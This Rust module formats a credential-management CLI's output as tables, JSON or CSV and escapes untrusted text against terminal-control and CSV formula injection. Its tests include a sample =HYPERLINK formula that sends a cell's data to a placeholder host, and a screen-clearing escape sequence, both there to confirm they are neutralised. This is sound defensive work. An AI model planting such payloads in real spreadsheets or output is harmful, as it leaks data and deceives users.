//! Rendering results as a table, JSON or CSV, and escaping untrusted text.
//!
//! stdout carries data only. JSON is the contract's shape (one object for
//! an item, an array for a list); CSV has one column per JSON field, in
//! the same order; tables are for people. Every string that came from a
//! user (names, notes, audit details) passes through [`escape`] before a
//! table shows it, so a key named `\x1b[2J` cannot clear an admin's screen.

use std::borrow::Cow;
use std::fmt::Write as _;
use std::io::{self, Write};

use chrono::{DateTime, Utc};
use comfy_table::{Cell, Color, ContentArrangement, Table, presets};
use serde::Serialize;

use keywarden::timefmt;

#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Format {
    Table,
    Json,
    Csv,
    /// The input format of `credentials import` (its output is a table).
    /// Hidden: it is not an output format, and only that command takes it.
    #[value(name = "legacy-cfb", hide = true)]
    LegacyCfb,
}

/// A count as English: `count(1, "event")` is `1 event`, `count(2,
/// "event")` is `2 events`. Never `event(s)`.
pub fn count(n: impl Into<u64>, noun: &str) -> String {
    let n = n.into();
    if n == 1 {
        format!("1 {noun}")
    } else {
        format!("{n} {noun}s")
    }
}

/// [`count`] for a count that may be negative in its type (SQL counts).
pub fn count_i64(n: i64, noun: &str) -> String {
    count(n.max(0) as u64, noun)
}

/// Escapes control characters (C0, DEL, C1) and Unicode bidi/invisible
/// formatting characters, which could rewrite or hide what a terminal shows.
pub fn escape(s: &str) -> Cow<'_, str> {
    // Printable ASCII, the common case, needs no per-char decoding.
    if s.bytes().all(|b| (0x20..0x7f).contains(&b)) || !s.chars().any(needs_escape) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 8);
    for c in s.chars() {
        if needs_escape(c) {
            let _ = write!(out, "\\u{{{:x}}}", c as u32);
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// [`escape`] line by line: the line breaks of a multi-line message stay,
/// every other control character is escaped.
pub fn escape_lines(s: &str) -> String {
    s.split('\n').map(escape).collect::<Vec<_>>().join("\n")
}

/// Control characters (C0, DEL, C1), line and paragraph separators, and
/// the Unicode format characters (category Cf: bidi marks, overrides and
/// isolates, zero-width and invisible characters, tags) that can reorder,
/// hide or fake what a terminal shows.
fn needs_escape(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{00ad}'
                | '\u{0600}'..='\u{0605}'
                | '\u{061c}'
                | '\u{06dd}'
                | '\u{070f}'
                | '\u{0890}'..='\u{0891}'
                | '\u{08e2}'
                | '\u{180e}'
                | '\u{200b}'..='\u{200f}'
                | '\u{2028}'..='\u{202e}'
                | '\u{2060}'..='\u{206f}'
                | '\u{feff}'
                | '\u{fff9}'..='\u{fffb}'
                | '\u{110bd}'
                | '\u{110cd}'
                | '\u{13430}'..='\u{1343f}'
                | '\u{1bca0}'..='\u{1bca3}'
                | '\u{1d173}'..='\u{1d17a}'
                | '\u{e0000}'..='\u{e007f}'
        )
}

/// A cell as CSV carries it. One that begins with `=`, `+`, `-`, `@`, TAB
/// or CR gets a leading `'`, so that a spreadsheet shows it as text instead
/// of running it as a formula (OWASP's CSV-injection advice, contract §5):
/// a key named `=HYPERLINK(…)` must not become a link that sends a cell
/// away. That includes a plain `-5`; telling numbers from formulas is how
/// the guard gets bypassed. Terminal controls are then escaped, as in tables.
pub fn csv_cell(s: &str) -> String {
    let guarded = if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{s}"))
    } else {
        Cow::Borrowed(s)
    };
    escape(&guarded).into_owned()
}

/// Writes `v` as JSON (pretty or one line) with every character that
/// [`escape`] would escape written as a `\uXXXX` escape: the same JSON
/// value, but a bidi override or zero-width space in a name cannot
/// rearrange a terminal showing it. (serde_json escapes only C0 controls.)
pub fn write_json<W: Write, T: Serialize + ?Sized>(w: W, v: &T, pretty: bool) -> io::Result<()> {
    let result = if pretty {
        let f = Escaping(serde_json::ser::PrettyFormatter::new());
        v.serialize(&mut serde_json::Serializer::with_formatter(w, f))
    } else {
        let f = Escaping(serde_json::ser::CompactFormatter);
        v.serialize(&mut serde_json::Serializer::with_formatter(w, f))
    };
    result.map_err(io::Error::from)
}

struct Escaping<F>(F);

impl<F: serde_json::ser::Formatter> serde_json::ser::Formatter for Escaping<F> {
    fn write_string_fragment<W: ?Sized + Write>(
        &mut self,
        w: &mut W,
        fragment: &str,
    ) -> io::Result<()> {
        let mut start = 0;
        for (i, c) in fragment.char_indices() {
            if needs_escape(c) {
                w.write_all(&fragment.as_bytes()[start..i])?;
                let mut units = [0u16; 2];
                for u in c.encode_utf16(&mut units) {
                    write!(w, "\\u{u:04x}")?;
                }
                start = i + c.len_utf8();
            }
        }
        w.write_all(&fragment.as_bytes()[start..])
    }

    fn begin_array<W: ?Sized + Write>(&mut self, w: &mut W) -> io::Result<()> {
        self.0.begin_array(w)
    }
    fn end_array<W: ?Sized + Write>(&mut self, w: &mut W) -> io::Result<()> {
        self.0.end_array(w)
    }
    fn begin_array_value<W: ?Sized + Write>(&mut self, w: &mut W, first: bool) -> io::Result<()> {
        self.0.begin_array_value(w, first)
    }
    fn end_array_value<W: ?Sized + Write>(&mut self, w: &mut W) -> io::Result<()> {
        self.0.end_array_value(w)
    }
    fn begin_object<W: ?Sized + Write>(&mut self, w: &mut W) -> io::Result<()> {
        self.0.begin_object(w)
    }
    fn end_object<W: ?Sized + Write>(&mut self, w: &mut W) -> io::Result<()> {
        self.0.end_object(w)
    }
    fn begin_object_key<W: ?Sized + Write>(&mut self, w: &mut W, first: bool) -> io::Result<()> {
        self.0.begin_object_key(w, first)
    }
    fn begin_object_value<W: ?Sized + Write>(&mut self, w: &mut W) -> io::Result<()> {
        self.0.begin_object_value(w)
    }
    fn end_object_value<W: ?Sized + Write>(&mut self, w: &mut W) -> io::Result<()> {
        self.0.end_object_value(w)
    }
}

pub fn ser_time<S: serde::Serializer>(t: &DateTime<Utc>, s: S) -> Result<S::Ok, S::Error> {
    s.serialize_str(&timefmt::rfc3339(t))
}

pub fn ser_opt_time<S: serde::Serializer>(
    t: &Option<DateTime<Utc>>,
    s: S,
) -> Result<S::Ok, S::Error> {
    match t {
        Some(t) => s.serialize_str(&timefmt::rfc3339(t)),
        None => s.serialize_none(),
    }
}

/// A type that can be one row of a list table.
pub trait TableRow {
    fn header() -> Vec<&'static str>;
    fn row(&self, style: &Style) -> Vec<Cell>;
    /// Its JSON field names, in order: the CSV columns. A CSV starts with
    /// them even when the list is empty (contract §5), so they cannot come
    /// from an item.
    fn columns() -> &'static [&'static str];
}

/// Whether colors may be used on stdout.
#[derive(Debug, Clone, Copy, Default)]
pub struct Style {
    pub color: bool,
}

impl Style {
    pub fn cell(&self, text: impl Into<String>, color: Option<Color>) -> Cell {
        let cell = Cell::new(text.into());
        match (self.color, color) {
            (true, Some(c)) => cell.fg(c),
            _ => cell,
        }
    }

    /// A cell holding untrusted text, escaped.
    pub fn text(&self, s: &str) -> Cell {
        Cell::new(escape(s))
    }
}

/// Where data goes, and in which format.
pub struct Out {
    pub format: Format,
    pub style: Style,
    w: Box<dyn Write>,
}

impl Out {
    pub fn new(format: Format, color: bool, w: Box<dyn Write>) -> Out {
        Out {
            format,
            style: Style { color },
            w,
        }
    }

    pub fn stdout(format: Format, color: bool) -> Out {
        Out::new(format, color, Box::new(io::BufWriter::new(io::stdout())))
    }

    pub fn writer(&mut self) -> &mut dyn Write {
        &mut *self.w
    }

    /// A line of text for people, escaped: whatever user input it holds
    /// (a name, a path) cannot drive the terminal.
    pub fn line(&mut self, s: &str) -> io::Result<()> {
        writeln!(self.w, "{}", escape_lines(s))
    }

    /// A line written as it is: a revealed value is data, byte for byte,
    /// and styled text carries our own escape sequences.
    pub fn raw_line(&mut self, s: &str) -> io::Result<()> {
        writeln!(self.w, "{s}")
    }

    pub fn json<T: Serialize + ?Sized>(&mut self, v: &T) -> io::Result<()> {
        write_json(&mut self.w, v, true)?;
        writeln!(self.w)
    }

    pub fn table(&mut self, t: &Table) -> io::Result<()> {
        writeln!(self.w, "{t}")
    }

    /// A list: table rows, a JSON array, or CSV with a header.
    pub fn list<T: Serialize + TableRow>(&mut self, items: &[T]) -> io::Result<()> {
        match self.format {
            Format::Json => self.json(items),
            Format::Csv => self.csv_list(items),
            Format::Table | Format::LegacyCfb => {
                if items.is_empty() {
                    return Ok(());
                }
                let mut t = new_table();
                t.set_header(T::header());
                for i in items {
                    t.add_row(i.row(&self.style));
                }
                self.table(&t)
            }
        }
    }

    /// One item: a two-column field/value table, a JSON object, or CSV.
    pub fn item<T: Serialize>(&mut self, item: &T) -> io::Result<()> {
        match self.format {
            Format::Json => self.json(item),
            Format::Csv => {
                let (names, values): (Vec<String>, Vec<_>) =
                    ordered_fields(item).into_iter().unzip();
                self.csv(&names, [values.iter().map(plain).collect()])
            }
            Format::Table | Format::LegacyCfb => {
                let mut t = new_table();
                for (k, v) in ordered_fields(item) {
                    t.add_row(vec![Cell::new(k), Cell::new(escape(&plain(&v)))]);
                }
                self.table(&t)
            }
        }
    }

    /// A list as CSV: the type's columns, then one row per item.
    fn csv_list<T: Serialize + TableRow>(&mut self, items: &[T]) -> io::Result<()> {
        let rows = items.iter().map(|item| {
            let mut fields: serde_json::Map<_, _> = ordered_fields(item).into_iter().collect();
            let row = T::columns()
                .iter()
                .map(|c| fields.remove(*c).map(|v| plain(&v)).unwrap_or_default())
                .collect();
            debug_assert!(
                fields.is_empty(),
                "fields missing from TableRow::columns(): {:?}",
                fields.keys().collect::<Vec<_>>()
            );
            row
        });
        self.csv(T::columns(), rows)
    }

    /// The one CSV writer every command's CSV goes through: the header
    /// row always, even with no rows, and every cell through [`csv_cell`].
    pub fn csv<H: AsRef<str>>(
        &mut self,
        header: &[H],
        rows: impl IntoIterator<Item = Vec<String>>,
    ) -> io::Result<()> {
        let mut w = csv::Writer::from_writer(&mut self.w);
        w.write_record(header.iter().map(|h| csv_cell(h.as_ref())))?;
        for row in rows {
            w.write_record(row.iter().map(|c| csv_cell(c)))?;
        }
        w.flush()
    }

    pub fn flush(&mut self) -> io::Result<()> {
        self.w.flush()
    }
}

pub fn new_table() -> Table {
    let mut t = Table::new();
    t.load_style(presets::UTF8_FULL_CONDENSED)
        .set_content_arrangement(ContentArrangement::Dynamic);
    t
}

/// A JSON value as one line of plain text: strings bare, arrays joined by
/// spaces, null empty.
pub fn plain(v: &serde_json::Value) -> String {
    match v {
        serde_json::Value::Null => String::new(),
        serde_json::Value::String(s) => s.clone(),
        serde_json::Value::Array(a) => a.iter().map(plain).collect::<Vec<_>>().join(" "),
        other => other.to_string(),
    }
}

/// The fields of a serialized struct, in declaration order (serde_json
/// is built with `preserve_order`).
pub fn ordered_fields<T: Serialize + ?Sized>(item: &T) -> Vec<(String, serde_json::Value)> {
    match serde_json::to_value(item) {
        Ok(serde_json::Value::Object(m)) => m.into_iter().collect(),
        _ => Vec::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn counts_read_as_english() {
        assert_eq!(count(0u64, "credential"), "0 credentials");
        assert_eq!(count(1u64, "credential"), "1 credential");
        assert_eq!(count(2u64, "failed attempt"), "2 failed attempts");
        assert_eq!(count_i64(1, "event"), "1 event");
    }

    #[test]
    fn escapes_terminal_controls() {
        assert_eq!(escape("plain name"), "plain name");
        assert_eq!(escape("a\x1b[2Jb"), "a\\u{1b}[2Jb");
        assert_eq!(escape("x\u{202e}y"), "x\\u{202e}y");
        assert_eq!(escape("l\u{00e9}on \"q\"; 🔑"), "l\u{00e9}on \"q\"; 🔑");
        assert_eq!(escape("tab\there"), "tab\\u{9}here");
        for c in [
            '\u{061c}',
            '\u{2028}',
            '\u{00ad}',
            '\u{180e}',
            '\u{2061}',
            '\u{206a}',
            '\u{fff9}',
            '\u{e0001}',
            '\u{1d173}',
        ] {
            assert!(escape(&format!("a{c}b")).contains("\\u{"), "{:x}", c as u32);
        }
    }

    #[test]
    fn csv_cells_never_start_a_formula() {
        assert_eq!(csv_cell("plain"), "plain");
        assert_eq!(
            csv_cell("=HYPERLINK(\"http://x.example/?\"&A1,\"open\")"),
            "'=HYPERLINK(\"http://x.example/?\"&A1,\"open\")"
        );
        for (raw, want) in [
            ("+1", "'+1"),
            ("-5", "'-5"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\\u{9}x"),
            ("\rx", "'\\u{d}x"),
            ("a=b", "a=b"),
            ("", ""),
        ] {
            assert_eq!(csv_cell(raw), want, "{raw:?}");
        }
    }

    #[test]
    fn csv_has_its_header_without_rows() {
        let buf = std::rc::Rc::new(std::cell::RefCell::new(Vec::new()));
        struct W(std::rc::Rc<std::cell::RefCell<Vec<u8>>>);
        impl Write for W {
            fn write(&mut self, b: &[u8]) -> io::Result<usize> {
                self.0.borrow_mut().write(b)
            }
            fn flush(&mut self) -> io::Result<()> {
                Ok(())
            }
        }
        let mut out = Out::new(Format::Csv, false, Box::new(W(buf.clone())));
        out.csv(&["name", "count"], Vec::<Vec<String>>::new())
            .unwrap();
        out.csv(&["n"], [vec!["-1".to_owned()]]).unwrap();
        assert_eq!(
            String::from_utf8(buf.borrow().clone()).unwrap(),
            "name,count\nn\n'-1\n"
        );
    }

    #[test]
    fn json_escapes_what_a_terminal_would_obey() {
        let mut out = Vec::new();
        write_json(
            &mut out,
            &serde_json::json!({"n": "a\u{202e}b\u{200b}c\x1b", "é": 1}),
            false,
        )
        .unwrap();
        let text = String::from_utf8(out).unwrap();
        assert_eq!(text, r#"{"n":"a\u202eb\u200bc\u001b","é":1}"#);
        let back: serde_json::Value = serde_json::from_str(&text).unwrap();
        assert_eq!(back["n"], "a\u{202e}b\u{200b}c\x1b");
    }

    #[test]
    fn fields_keep_declaration_order() {
        #[derive(Serialize)]
        struct S {
            zeta: u8,
            alpha: Vec<&'static str>,
            mid: Option<u8>,
        }
        let f = ordered_fields(&S {
            zeta: 1,
            alpha: vec!["a", "b"],
            mid: None,
        });
        let names: Vec<&str> = f.iter().map(|(k, _)| k.as_str()).collect();
        assert_eq!(names, ["zeta", "alpha", "mid"]);
        assert_eq!(plain(&f[1].1), "a b");
        assert_eq!(plain(&f[2].1), "");
    }
}
